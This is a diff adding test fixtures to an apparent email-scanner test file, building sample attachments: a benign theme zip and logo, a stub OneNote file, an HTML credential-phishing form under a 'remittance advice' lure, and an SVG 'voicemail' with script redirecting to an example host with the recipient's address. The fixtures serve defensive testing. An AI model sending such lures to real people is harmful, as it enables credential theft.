@@ -372,3 +372,45 @@ msg("modern_newsletter.eml", [
     "</p><p><font color=\"#c00\">Save 20% this week.</font></p>"
     "<p>If you no longer wish to receive our newsletter, <a href=\"https:"
     "//bakery-schmidt.example/unsub\">unsubscribe</a>.</p></body></html>\n")
+
+# a hotfix of three files of a theme: a project's sources beside the
+# script, no lure
+multipart("hotfix_zip.eml", "checkout fix", [TEXT, (
+    ["Content-Type: application/zip; name=\"child-1.4.3.zip\"",
+     "Content-Transfer-Encoding: base64",
+     "Content-Disposition: attachment; filename=\"child-1.4.3.zip\""],
+    zipped([("child/style.css", "x\n"), ("child/functions.php", "x\n"),
+            ("child/js/checkout.js", "x\n")]))])
+# web pages and images that run something when opened
+multipart("page_login.eml", "remittance advice", [TEXT, (
+    ["Content-Type: text/html; name=\"Remittance_0419.html\"",
+     "Content-Transfer-Encoding: base64",
+     "Content-Disposition: attachment; filename=\"Remittance_0419.html\""],
+    base64.encodebytes(
+        b"<html><body><form action=\"https://viewer.example/next.php\" "
+        b"method=\"post\"><input name=\"email\" value=\"bob@example.org\">"
+        b"<INPUT TYPE = 'Password' name=\"p\"><button>View</button>"
+        b"</form></body></html>\n").decode())])
+multipart("page_svg.eml", "voicemail", [TEXT, (
+    ["Content-Type: image/svg+xml; name=\"VM_0047.svg\"",
+     "Content-Transfer-Encoding: base64",
+     "Content-Disposition: attachment; filename=\"VM_0047.svg\""],
+    base64.encodebytes(
+        b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script><![CDATA["
+        b"window.location='https://player.example/?e='+atob('Ym9i');"
+        b"]]></script></svg>\n").decode())])
+multipart("svg_logo.eml", "our new logo", [TEXT, (
+    ["Content-Type: image/svg+xml; name=\"logo.svg\"",
+     "Content-Transfer-Encoding: base64",
+     "Content-Disposition: attachment; filename=\"logo.svg\""],
+    base64.encodebytes(
+        b"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"120\" "
+        b"height=\"40\"><title>Bakery Schmidt</title><path d=\"M0 0h40v40H0z"
+        b"\" fill=\"#c00\"/><text x=\"48\" y=\"28\">Schmidt</text></svg>\n")
+    .decode())])
+multipart("onenote.eml", "scanned document", [TEXT, (
+    ["Content-Type: application/octet-stream; name=\"Scan_0931.one\"",
+     "Content-Transfer-Encoding: base64",
+     "Content-Disposition: attachment; filename=\"Scan_0931.one\""],
+    base64.encodebytes(b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d" + b"\x00" * 56)
+    .decode())])
